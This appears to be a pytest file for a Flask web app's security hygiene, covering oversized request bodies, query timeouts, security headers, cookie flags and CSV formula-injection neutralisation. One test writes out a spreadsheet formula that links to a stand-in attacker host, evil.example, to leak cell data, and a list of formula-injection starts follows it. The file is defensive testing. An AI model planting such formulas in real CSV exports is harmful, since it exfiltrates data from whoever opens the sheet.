"""The web's hygiene, played by an attacker: oversized bodies, a runaway query, formulas in a
CSV export, a page framed or sniffed."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import text
from sqlalchemy.orm import Session, sessionmaker

from onegrid.api import create_app, store
from onegrid.api.csv_ import neutral
from onegrid.platform.settings import Settings
from tests.api.test_grid_pages import _csrf, _sign_in
from tests.ingest.conftest import envelope
from tests.places import spot

pytestmark = pytest.mark.usefixtures("city")
TWENTY_MB = b"x" * (20 * 1024 * 1024)


def _app(settings: Settings, sessions: sessionmaker[Session], **web: Any) -> Flask:
    app = create_app({"SETTINGS": replace(settings, web=replace(settings.web, **web)),
                      "TESTING": True})
    app.extensions["onegrid"]["sessions"] = sessions
    return app


def _problem(response, status: int) -> None:
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/problem+json"


def test_a_20_mb_api_post_is_refused_with_413_before_it_is_read(client, token) -> None:
    response = client.post("/api/v1/grant-requests", data=TWENTY_MB,
                           headers=token("MZJ", **{"Content-Type": "application/json"}))
    _problem(response, 413)
    assert "16 MB" in response.json["detail"]


def _multipart(csrf_token: str | None, photo: bytes) -> bytes:
    """A multipart body with a photo file built by hand (the test client would spool it to a
    file that nobody closes when the server refuses it unread)."""
    token = (b'--b\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n%s\r\n'
             % csrf_token.encode()) if csrf_token else b""
    return token + (b'--b\r\nContent-Disposition: form-data; name="photo"; '
                    b'filename="big.png"\r\nContent-Type: image/png\r\n\r\n%s\r\n--b--\r\n'
                    % photo)


def test_a_20_mb_multipart_page_post_is_refused_with_413_not_a_csrf_403(client, db) -> None:
    _sign_in(client, spot(db, 32).worker)
    form = "multipart/form-data; boundary=b"
    response = client.post("/grid/issues", content_type=form,
                           data=_multipart(_csrf(client), TWENTY_MB))
    _problem(response, 413)
    _problem(client.post("/grid/issues", content_type=form, data=_multipart(None, TWENTY_MB)),
             413)


def test_a_runaway_query_answers_503_problem_json(settings) -> None:
    # The web's own engine, whose connections carry the limit (not the test's transaction).
    app = create_app({"SETTINGS": replace(settings, web=replace(settings.web,
                                                                 statement_timeout_ms=50)),
                      "TESTING": True})

    @app.get("/test-runaway")
    def runaway() -> str:
        store.session().execute(text("SELECT pg_sleep(2)"))
        return "finished"

    response = app.test_client().get("/test-runaway")
    _problem(response, 503)
    assert (response.json or {})["type"] == "urn:onegrid:problem:statement-timeout"


def test_login_sends_the_four_security_headers(client) -> None:
    response = client.get("/login")
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-inline" not in policy
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"


def test_the_grid_pages_inline_map_code_carries_the_requests_nonce(client, db) -> None:
    _sign_in(client, spot(db, 33).worker)
    response = client.get("/grid")
    policy = response.headers.get("Content-Security-Policy", "")
    nonce = policy.split("'nonce-")[1].split("'")[0]
    page = response.get_data(as_text=True)
    assert page.count("<script") == page.count(f'<script nonce="{nonce}"') + page.count(
        "<script src=")
    assert "<style>" not in page


def test_the_session_cookie_is_httponly_lax_and_secure_over_https(client) -> None:
    cookie = client.get("/login?lang=en", base_url="https://localhost").headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Secure" in cookie
    assert "Secure" not in client.get("/login?lang=zh").headers["Set-Cookie"]


def test_the_secure_setting_makes_the_cookie_secure_over_plain_http(settings, sessions) -> None:
    client = _app(settings, sessions, cookie_secure=True).test_client()
    assert "Secure" in client.get("/login?lang=en").headers["Set-Cookie"]


def test_a_producers_formula_leaves_the_records_csv_as_text(client, write, db, token) -> None:
    write(envelope(name='=HYPERLINK("http://evil.example/?"&A1,"点我")'))
    db.flush()
    sheet = client.get("/api/v1/datasets/market.business/records?format=csv",
                       headers=token("MZJ"))
    rows = list(csv.DictReader(io.StringIO(sheet.data.decode("utf-8-sig"))))
    assert rows and all(not r["name"].startswith("=") for r in rows)
    assert any(r["name"].startswith("'=HYPERLINK(") for r in rows)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_owasp_formula_start_is_neutralised(cell: str) -> None:
    assert neutral(cell) == "'" + cell
    assert neutral(-1) == -1 and neutral("鹿城") == "鹿城"
